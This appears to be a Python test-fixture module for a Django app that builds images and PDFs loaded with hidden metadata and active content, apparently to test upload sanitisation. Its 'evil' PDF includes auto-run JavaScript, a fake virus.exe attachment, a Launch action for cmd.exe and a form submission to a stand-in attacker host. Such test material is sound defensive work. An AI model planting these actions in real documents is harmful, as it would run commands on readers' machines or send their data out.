"""Files to send: pictures and papers, some of them with more in them than can be seen."""

import io
import struct
from typing import Any

from django.core.files.base import ContentFile
from django.db.models.fields.files import FieldFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    RectangleObject,
    StreamObject,
    TextStringObject,
)

SECRET = b"in-de-tuin-van-Rika"


def picture(size: tuple[int, int] = (60, 40), kind: str = "JPEG", mode: str = "RGB", **options: Any) -> bytes:
    made = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else None).save(made, kind, **options)
    return made.getvalue()


def noisy(kind: str = "JPEG", size: tuple[int, int] = (160, 120)) -> bytes:
    """Large for its measures: something is left when half is cut off."""
    made = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGB").save(made, kind)
    return made.getvalue()


def upload(content: bytes, name: str = "foto.jpg") -> ContentFile:  # type: ignore[type-arg]  # not subscriptable when it runs
    return ContentFile(content, name=name)


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E], exif[0x9C9B] = SECRET.decode(), SECRET  # description, title as Windows keeps it
    exif[0x0112] = 6  # turned a quarter
    exif.get_ifd(0x8825).update({1: "N", 2: (50.0, 49.0, 59.0), 3: "E", 4: (3.0, 15.0, 43.0)})
    return exif


def telling_jpeg(size: tuple[int, int] = (60, 40)) -> bytes:
    """A JPEG with all that a camera and an agency put in one: EXIF, GPS, XMP, IPTC, a profile, a comment, a film."""
    plain = picture(
        size, exif=exif_with_gps(), xmp=b"<x>" + SECRET + b"</x>", comment=SECRET, icc_profile=b"icc " + SECRET
    )  # fmt: skip
    caption = b"\x1c\x02\x78" + struct.pack(">H", len(SECRET)) + SECRET
    block = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(caption)) + caption + b"\x00" * (len(caption) % 2)
    iptc = b"Photoshop 3.0\x00" + block
    segment = b"\xff\xed" + struct.pack(">H", len(iptc) + 2) + iptc
    return plain[:2] + segment + plain[2:] + b"MotionPhoto" + SECRET


def pdf(pages: int = 1, *, password: str = "") -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=200, height=100)
    if password:
        writer.encrypt(password)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def evil_pdf() -> bytes:
    """A page that does everything a page can do, and carries a photo that tells where it was taken."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=100)
    writer.add_metadata({"/Author": SECRET.decode()})
    writer.xmp_metadata = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b"<rdf:Description/></rdf:RDF></x:xmpmeta>"
    )
    writer.add_attachment("virus.exe", b"MZ" + SECRET)
    script = writer._add_object(_action("JavaScript", JS=f"app.alert('{SECRET.decode()}')"))
    names = writer.root_object["/Names"]
    assert isinstance(names, DictionaryObject)
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("start"), script])}
    )
    writer.root_object[NameObject("/OpenAction")] = script
    writer.add_outline_item(title=SECRET.decode(), page_number=0)
    photo = DecodedStreamObject()
    photo.set_data(telling_jpeg())
    photo.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
        NameObject("/Width"): NumberObject(60), NameObject("/Height"): NumberObject(40),
        NameObject("/BitsPerComponent"): NumberObject(8), NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
        NameObject("/Filter"): NameObject("/DCTDecode"),
        NameObject("/Metadata"): writer._add_object(_stream(b"<x>" + SECRET + b"</x>")),
        NameObject("/PieceInfo"): DictionaryObject({NameObject("/Maker"): TextStringObject(SECRET.decode())}),
    })  # fmt: skip
    drawings = DictionaryObject({NameObject("/Photo"): writer._add_object(photo)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): drawings})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("JavaScript", JS=SECRET.decode())})
    page[NameObject("/Annots")] = _remarks(writer)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def _remarks(writer: PdfWriter) -> Any:
    def remark(kind: str, **more: Any) -> Any:
        entries = {f"/{name}": value for name, value in more.items()}
        rect = RectangleObject((10, 20, 110, 40))
        return writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(f"/{kind}"),
            NameObject("/Rect"): rect, **{NameObject(name): value for name, value in entries.items()},
        }))  # fmt: skip

    looks = _stream(b"BT /F1 9 Tf 2 5 Td (INGEVULD) Tj ET")
    looks.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
        NameObject("/BBox"): RectangleObject((0, 0, 100, 20)),
    })  # fmt: skip
    filled = DictionaryObject({NameObject("/N"): writer._add_object(looks)})
    return ArrayObject([
        remark("Link", A=_action("URI", URI="http://kwaad.example/" + SECRET.decode())),
        remark("Link", A=_action("Launch", F="cmd.exe")),
        remark("Link", A=_action("SubmitForm", F="http://kwaad.example/")),
        remark("Widget", AP=filled, T=TextStringObject(SECRET.decode())),
    ])  # fmt: skip


def _stream(content: bytes) -> DecodedStreamObject:
    made = DecodedStreamObject()
    made.set_data(content)
    return made


def _action(kind: str, **more: str) -> DictionaryObject:
    words = {NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **words})


def name_of(file: FieldFile) -> str:
    """Where a file stands in the store."""
    assert file.name
    return file.name


def everything_in(document: bytes) -> bytes:
    """All bytes of a PDF, also those that were packed."""
    reader = PdfReader(io.BytesIO(document))
    unpacked = [document]
    for number in reader.xref[0]:
        found = reader.get_object(number)
        unpacked.append(repr(found).encode())
        if isinstance(found, StreamObject):
            is_picture = found.get("/Filter") == "/DCTDecode"
            unpacked.append(found._data if is_picture else found.get_data())
    return b"\n".join(unpacked)
